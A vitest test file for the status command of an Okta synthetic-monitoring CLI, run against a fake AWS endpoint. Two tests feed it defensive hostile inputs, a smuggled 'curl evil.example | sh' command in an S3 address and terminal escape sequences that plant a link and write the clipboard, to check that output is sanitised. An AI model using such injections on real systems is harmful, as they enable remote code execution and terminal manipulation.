// status against the loopback AWS fake (test/support/aws-fake.ts): the real SDK clients send DescribeAlarms,
// GetMetricData, FilterLogEvents and Invoke, so the names and the protocol are what AWS would receive.
import { CloudWatchClient } from '@aws-sdk/client-cloudwatch';
import { CloudWatchLogsClient } from '@aws-sdk/client-cloudwatch-logs';
import { LambdaClient } from '@aws-sdk/client-lambda';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { runStatus } from '../../../functions/cli/status';
import { RUN_LOG_MESSAGE, type RunLogLine } from '../../../functions/contract';
import { loadConfigFile } from '../../../functions/config/parse';
import { regionPlan } from '../../../functions/plan/region-plan';
import { RUN_LINE_FILTER } from '../../../functions/report/run-log';
import { EXAMPLE_CONFIG_PATH } from '../../../lib/build-app';
import { startAwsFake, type AwsFake, type AwsFakeOptions } from '../../support/aws-fake';
import { browserJourneyConfig, writeConfig } from '../../support/configs';

function load(file: string) {
  const result = loadConfigFile(file, 'deploy');
  if (!result.ok) throw new Error(result.errors.join('\n'));
  return result.config;
}

const loaded = loadConfigFile(EXAMPLE_CONFIG_PATH, 'deploy');
if (!loaded.ok) throw new Error(loaded.errors.join('\n'));
const ALARMS = regionPlan(loaded.config).alarms.map((a) => a.name);
const credentials = { accessKeyId: 'AKIDTEST', secretAccessKey: 'test' };

function runLine(extra: Partial<RunLogLine> = {}): string {
  const line: RunLogLine = {
    level: 'WARN',
    message: RUN_LOG_MESSAGE,
    startedAt: new Date().toISOString(),
    durationMs: 412,
    orgUrl: 'https://acme.okta.com',
    passed: 17,
    failed: 1,
    skipped: 0,
    metrics: { published: 40, emf: 0 },
    failures: [
      {
        server: 'default',
        check: 'validate',
        code: 'AUDIENCE_MISMATCH',
        summary: 'The token is for another API.',
        remedy: 'Set the audience of the default server.',
        requestId: 'XkG3abc',
        detail: 'aud was api://payments, expected api://default',
      },
    ],
    ...extra,
  };
  return JSON.stringify(line);
}

let fake: AwsFake | undefined;
afterEach(async () => {
  await fake?.close();
  fake = undefined;
});

async function status(
  args: string[],
  { alarms, ...options }: AwsFakeOptions & { alarms?: ReadonlyMap<string, string> },
) {
  fake = await startAwsFake(options);
  for (const [name, state] of alarms ?? []) fake.alarms.set(name, { state, since: Date.now() } as never);
  const endpoint = fake.url;
  let out = '';
  let err = '';
  const code = await runStatus(
    ['--config', EXAMPLE_CONFIG_PATH, '--region', 'us-east-1', ...args],
    { stdout: (t) => void (out += t), stderr: (t) => void (err += t), env: {} },
    {
      cloudWatch: (region) => new CloudWatchClient({ region, endpoint, credentials, maxAttempts: 1 }),
      logs: (region) => new CloudWatchLogsClient({ region, endpoint, credentials, maxAttempts: 1 }),
      lambda: (region) => new LambdaClient({ region, endpoint, credentials, maxAttempts: 1 }),
    },
  );
  return { code, out, err, calls: fake.calls };
}

describe('status', () => {
  it('reads every region the config deploys to, each under its name, unless --region names one', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'okta-synthetics-status-regions-'));
    const file = join(dir, 'two-regions.json');
    const example = JSON.parse(readFileSync(EXAMPLE_CONFIG_PATH, 'utf8')) as Record<string, unknown>;
    writeFileSync(file, JSON.stringify({ ...example, regions: ['us-east-1', 'eu-west-1'] }));
    try {
      fake = await startAwsFake({ logEvents: () => [{ message: runLine(), timestamp: Date.now() - 1000 }] });
      const endpoint = fake.url;
      let out = '';
      await runStatus(
        ['--config', file],
        { stdout: (t) => void (out += t), stderr: () => undefined, env: {} },
        {
          cloudWatch: (region) => new CloudWatchClient({ region, endpoint, credentials, maxAttempts: 1 }),
          logs: (region) => new CloudWatchLogsClient({ region, endpoint, credentials, maxAttempts: 1 }),
          lambda: (region) => new LambdaClient({ region, endpoint, credentials, maxAttempts: 1 }),
        },
      );
      expect(out).toMatch(/^Region us-east-1$/m);
      expect(out).toMatch(/^Region eu-west-1$/m);
      expect(fake.calls.filter((c) => c.operation === 'logs.FilterLogEvents').length).toBeGreaterThanOrEqual(2);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("gives the command that fetches a failure's sanitized HTTP trace, and none for an address not S3's", async () => {
    const uri = 's3://okta-synthetics-traces-1a2b/har/2026-11-22/2026-11-22T03-09-00-000Z-default-validate.har';
    const failure = {
      server: 'default',
      check: 'validate' as const,
      code: 'AUDIENCE_MISMATCH' as const,
      summary: 'The token is for another API.',
      remedy: 'Set the audience.',
      requestId: 'XkG3abc',
    };
    const printed = async (har: string) =>
      (
        await status([], {
          alarms: new Map(ALARMS.map((name) => [name, 'OK'])),
          logEvents: () => [{ message: runLine({ failures: [{ ...failure, har }] }), timestamp: Date.now() - 1000 }],
        })
      ).out;
    expect(await printed(uri)).toContain(`    HTTP trace: aws s3 cp ${uri} . --region us-east-1`);
    // A run line whose trace address could carry a command is not read as one.
    expect(await printed('s3://bucket/x; curl evil.example | sh')).not.toContain('curl');
  });

  it("prints Okta's words as text: no escape sequence of theirs reaches the terminal", async () => {
    const hostile = `aud \u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007 \u001b]52;c;ZXZpbA==\u0007\u001b[2J`;
    const failures = [
      {
        server: 'default',
        check: 'validate' as const,
        code: 'AUDIENCE_MISMATCH' as const,
        summary: 'The token is for another API.',
        remedy: 'Set the audience.',
        requestId: 'XkG3abc',
        detail: hostile,
      },
    ];
    const { out } = await status([], {
      alarms: new Map(ALARMS.map((name) => [name, 'OK'])),
      logEvents: () => [{ message: runLine({ failures }), timestamp: Date.now() - 1000 }],
    });
    expect(out).toContain('AUDIENCE_MISMATCH');
    // eslint-disable-next-line no-control-regex
    expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  });

  it(
    "shows each server's alarms not OK, its p90 latency, " + 'and the last run with its failure and fix; exit 1',
    async () => {
      const alarms = new Map(ALARMS.map((name) => [name, name === 'okta-synthetics-default-page' ? 'ALARM' : 'OK']));
      const { code, out, calls } = await status([], {
        alarms,
        metricValue: (dimensions) => (dimensions === 'Server=org,Check=token' ? 212.4 : undefined),
        logEvents: () => [{ message: runLine(), timestamp: Date.now() - 1000 }],
      });
      expect(code).toBe(1);
      expect(out).toMatch(/^org +OK \(\d+ alarms\)$/m);
      expect(out).toMatch(/^ {2}p90 last hour: discovery -, keys -, token 212 ms/m);
      expect(out).toMatch(/^default +1 of \d+ alarms not OK\n {2}ALARM +okta-synthetics-default-page$/m);
      expect(out).toContain('failed, 0 skipped.');
      expect(out).toMatch(/Last run .*: 17 passed, 1 failed, 0 skipped\./);
      const unwrapped = out.replace(/\n {4}(?!Fix|Okta)/g, ' ');
      expect(unwrapped).toContain(
        '  FAIL default/validate AUDIENCE_MISMATCH: The token is for another API. (aud was api://payments, ' +
          'expected api://default)',
      );
      expect(out).toContain('    Fix: Set the audience of the default server.');
      expect(out).toContain('    Okta request id: XkG3abc');
      expect(out.split('\n').filter((line) => line.length > 80)).toEqual([]);
      // The run line is read by the notifier's and the report's one reader: its filter, newest window first.
      expect(calls.map((c) => c.operation).slice(0, 3)).toEqual([
        'cloudwatch.DescribeAlarms',
        'cloudwatch.GetMetricData',
        'logs.FilterLogEvents',
      ]);
      expect(new Set(calls.slice(2).map((c) => c.operation))).toEqual(new Set(['logs.FilterLogEvents']));
      expect(calls[0]?.input.AlarmNames).toEqual(ALARMS);
      expect(calls[2]?.input).toMatchObject({
        logGroupName: '/aws/lambda/okta-synthetics-probe',
        filterPattern: RUN_LINE_FILTER,
      });
    },
  );

  it(
    'exit 0 when every alarm is OK and the last run failed ' + 'nothing; an alarm the account lacks is "missing"',
    async () => {
      const healthy = await status([], {
        alarms: new Map(ALARMS.map((name) => [name, 'OK'])),
        logEvents: () => [{ message: runLine({ failed: 0, passed: 18, failures: [] }), timestamp: Date.now() - 1000 }],
      });
      expect(healthy.code).toBe(0);
      expect(healthy.out).toContain('Deployment alarms: OK');
      // A fresh deployment: the latches sit in INSUFFICIENT_DATA until the probe first sets one, and that is healthy;
      // any other alarm in INSUFFICIENT_DATA is not.
      const latches = ALARMS.filter((name) => name.endsWith('-quorum-latch'));
      expect(latches.length).toBeGreaterThan(0);
      const fresh = await status([], {
        alarms: new Map(ALARMS.map((name) => [name, latches.includes(name) ? 'INSUFFICIENT_DATA' : 'OK'])),
        logEvents: () => [{ message: runLine({ failed: 0, passed: 18, failures: [] }), timestamp: Date.now() - 1000 }],
      });
      expect(fresh.code).toBe(0);
      expect(fresh.out).not.toContain('INSUFFICIENT_DATA');
      const other = await status([], {
        alarms: new Map(
          ALARMS.map((name) => [name, name === 'okta-synthetics-default-page' ? 'INSUFFICIENT_DATA' : 'OK']),
        ),
        logEvents: () => [{ message: runLine({ failed: 0, passed: 18, failures: [] }), timestamp: Date.now() - 1000 }],
      });
      expect(other.code).toBe(1);
      const partial = await status([], {
        alarms: new Map(ALARMS.slice(1).map((name) => [name, 'OK'])),
        logEvents: () => [],
      });
      expect(partial.code).toBe(1);
      expect(partial.out).toMatch(new RegExp(`^ {2}missing +${ALARMS[0] ?? ''}$`, 'm'));
      expect(partial.out).toContain('No run in the last hour');
    },
  );

  it(
    "--invoke runs each deployed function once: the probe's verdicts check by check, the notifier sent a " +
      'change it never notifies',
    async () => {
      const checks = [
        { server: 'org', check: 'token', outcome: 'pass' },
        { server: 'default', check: 'validate', outcome: 'fail', code: 'AUDIENCE_MISMATCH' },
        { server: 'portal', check: 'sign-in', outcome: 'pass', carried: true },
      ];
      const { code, out, calls } = await status(['--invoke'], {
        alarms: new Map(ALARMS.map((name) => [name, 'OK'])),
        invoke: ({ functionName, payload }) =>
          functionName.endsWith('-probe')
            ? { payload: { passed: 2, failed: 1, skipped: 0, checks } }
            : {
                payload: {
                  skipped:
                    `state ${(payload as { detail: { state: { value: string } } }).detail.state.value} is not ` +
                    `notified`,
                },
              },
        logEvents: () => [{ message: runLine({ failed: 0, passed: 18, failures: [] }), timestamp: Date.now() - 1000 }],
      });
      expect(calls.filter((c) => c.operation === 'lambda.Invoke').map((c) => c.input)).toEqual([
        { FunctionName: 'okta-synthetics-probe', InvocationType: 'RequestResponse' },
        { FunctionName: 'okta-synthetics-notifier', InvocationType: 'RequestResponse', Qualifier: 'page' },
      ]);
      expect(out).toContain('Invoked okta-synthetics-probe now: 2 passed, 1 failed, 0 skipped.');
      expect(out).toMatch(/^ {2}org: token PASS$/m);
      expect(out).toMatch(/^ {2}default: validate FAIL AUDIENCE_MISMATCH$/m);
      expect(out).toMatch(/^ {2}portal: sign-in PASS \(carried\)$/m);
      expect(out).toContain(
        'Invoked okta-synthetics-notifier:page now: read its configuration, sent nothing (state ' +
          'INSUFFICIENT_DATA is not notified).',
      );
      // A check the invocation failed fails the command, though every alarm is OK.
      expect(code).toBe(1);
    },
  );

  it(
    "--invoke: a function that fails, or cannot read its configuration, is named with Lambda's error, " +
      'scrubbed, and fails the command (exit 1)',
    async () => {
      const key = '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----';
      const { code, out, err } = await status(['--invoke'], {
        alarms: new Map(ALARMS.map((name) => [name, 'OK'])),
        invoke: ({ functionName }) =>
          functionName.endsWith('-probe')
            ? {
                functionError: 'Unhandled',
                payload: {
                  errorType: 'Error',
                  errorMessage:
                    'okta-synthetics.config.json is missing beside the handler and OKTA_SYNTHETICS_CONFIG is ' +
                    'not set: redeploy the stack (a deployment bug, not an Okta problem)',
                  trace: [],
                },
              }
            : {
                functionError: 'Unhandled',
                payload: {
                  errorType: 'Error',
                  errorMessage: `notifier: environment variable NOTIFIER_TOPICS is not set (a deployment bug) ${key}`,
                  trace: [],
                },
              },
        logEvents: () => [],
      });
      expect(code).toBe(1);
      expect(err).toBe('');
      const unwrapped = out.replace(/\n {4}(?!Its log)/g, ' ');
      expect(unwrapped).toContain(
        'FAILED okta-synthetics-probe: Error: okta-synthetics.config.json is missing beside the handler and ' +
          'OKTA_SYNTHETICS_CONFIG is not set: redeploy the stack (a deployment bug, not an Okta problem)',
      );
      expect(out).toContain('    Its log: aws logs tail /aws/lambda/okta-synthetics-probe --since 15m');
      expect(unwrapped).toContain(
        'FAILED okta-synthetics-notifier:page: Error: notifier: environment variable NOTIFIER_TOPICS is not set',
      );
      expect(out).not.toContain('MIIEvQIBADANBgkqhkiG9w0BAQEFAASC');
      expect(out).not.toContain('Invoked okta-synthetics-probe now');
    },
  );

  it(
    "--invoke with a browser journey also runs the browser journeys' function: its verdicts shown, a failed one " +
      'failing the command',
    async () => {
      const file = writeConfig(browserJourneyConfig());
      const names = regionPlan(load(file)).alarms.map((a) => a.name);
      const { code, out, calls } = await status(['--config', file, '--invoke'], {
        alarms: new Map(names.map((name) => [name, 'OK'])),
        invoke: ({ functionName }) =>
          functionName.endsWith('-probe')
            ? {
                payload: {
                  passed: 1,
                  failed: 0,
                  skipped: 0,
                  checks: [{ server: 'org', check: 'token', outcome: 'pass' }],
                },
              }
            : functionName.endsWith('-browser')
              ? {
                  payload: {
                    passed: 0,
                    failed: 1,
                    skipped: 0,
                    checks: [
                      { server: 'portal', check: 'sign-in', outcome: 'fail', code: 'SIGN_IN_PAGE_SCRIPT_ERROR' },
                    ],
                  },
                }
              : { payload: { skipped: 'state INSUFFICIENT_DATA is not notified' } },
        logEvents: () => [{ message: runLine({ failed: 0, passed: 18, failures: [] }), timestamp: Date.now() - 1000 }],
      });
      expect(calls.filter((c) => c.operation === 'lambda.Invoke').map((c) => c.input)).toEqual([
        { FunctionName: 'okta-synthetics-probe', InvocationType: 'RequestResponse' },
        { FunctionName: 'okta-synthetics-browser', InvocationType: 'RequestResponse' },
        { FunctionName: 'okta-synthetics-notifier', InvocationType: 'RequestResponse', Qualifier: 'page' },
      ]);
      expect(out).toContain('Invoked okta-synthetics-probe now: 1 passed, 0 failed, 0 skipped.');
      expect(out).toMatch(/^ {2}org: token PASS$/m);
      expect(out).toContain('Invoked okta-synthetics-browser now: 0 passed, 1 failed, 0 skipped.');
      expect(out).toMatch(/^ {2}portal: sign-in FAIL SIGN_IN_PAGE_SCRIPT_ERROR$/m);
      // The probe's own run passed and every alarm is OK: the browser journey's failure is what fails the command.
      expect(code).toBe(1);
    },
  );

  it('without credentials says so and what is needed, and could not run: exit 3, no request sent', async () => {
    let err = '';
    const code = await runStatus(
      ['--config', EXAMPLE_CONFIG_PATH, '--region', 'us-east-1'],
      { stdout: () => {}, stderr: (t) => void (err += t), env: {} },
      {
        cloudWatch: (region) =>
          new CloudWatchClient({
            region,
            endpoint: 'http://127.0.0.1:9',
            credentials: () => Promise.reject(new Error('Could not load credentials from any providers')),
            maxAttempts: 1,
          }),
      },
    );
    expect(code).toBe(3);
    expect(err).toBe(
      'okta-synthetics: status: no AWS credentials (Could not load credentials from any providers): sign in ' +
        'as you would for the AWS CLI (aws sso login, aws configure, --profile NAME or AWS_PROFILE, or ' +
        'AWS_ACCESS_KEY_ID and AWS_SECRET_ACCESS_KEY) and run again\n',
    );
  });
});

describe('status with a Preview org', () => {
  it('shows the Preview alarms apart, and a Preview finding never fails the exit code', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'okta-synthetics-status-preview-'));
    const file = join(dir, 'preview.json');
    const example = JSON.parse(readFileSync(EXAMPLE_CONFIG_PATH, 'utf8')) as Record<string, unknown>;
    const preview = {
      orgUrl: 'https://acme.oktapreview.com',
      servers: { org: { clientId: '0oaPREVIEW', privateKeyEnv: 'OKTA_PREVIEW_ORG_KEY' } },
    };
    writeFileSync(file, JSON.stringify({ ...example, preview }));
    const config = loadConfigFile(file, 'deploy');
    if (!config.ok) throw new Error(config.errors.join('\n'));
    const names = regionPlan(config.config, 'us-east-1').alarms.map((a) => a.name);
    const ahead = 'okta-synthetics-preview-ahead-warn';
    expect(names).toContain(ahead);
    try {
      fake = await startAwsFake({
        logEvents: () => [{ message: runLine({ level: 'INFO', failed: 0, failures: [] }), timestamp: Date.now() }],
      });
      for (const name of names) fake.alarms.set(name, { state: name === ahead ? 'ALARM' : 'OK', since: 0 } as never);
      const endpoint = fake.url;
      let out = '';
      const code = await runStatus(
        ['--config', file, '--region', 'us-east-1'],
        { stdout: (t) => void (out += t), stderr: () => undefined, env: {} },
        {
          cloudWatch: (region) => new CloudWatchClient({ region, endpoint, credentials, maxAttempts: 1 }),
          logs: (region) => new CloudWatchLogsClient({ region, endpoint, credentials, maxAttempts: 1 }),
          lambda: (region) => new LambdaClient({ region, endpoint, credentials, maxAttempts: 1 }),
        },
      );
      expect(out).toMatch(/^Deployment alarms: OK \(\d+\)$/m);
      expect(out.replace(/\s+/g, ' ')).toContain(
        'Preview org https://acme.oktapreview.com (warnings only, never a page, not in the exit code): ALARM ' + ahead,
      );
      expect(code).toBe(0);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
